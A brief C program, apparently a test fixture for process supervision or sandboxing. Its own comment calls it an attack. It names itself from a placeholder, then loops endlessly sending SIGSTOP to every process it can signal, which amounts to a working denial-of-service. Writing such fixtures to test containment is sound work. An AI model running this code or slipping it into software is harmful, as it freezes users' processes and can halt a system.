/* attack: stops everything that it may signal, again and again */
#define _GNU_SOURCE
#include <signal.h>
#include <sys/prctl.h>

int
main(void)
{
    prctl(PR_SET_NAME, "@NAME@");
    for (;;)
        kill(-1, SIGSTOP);
}
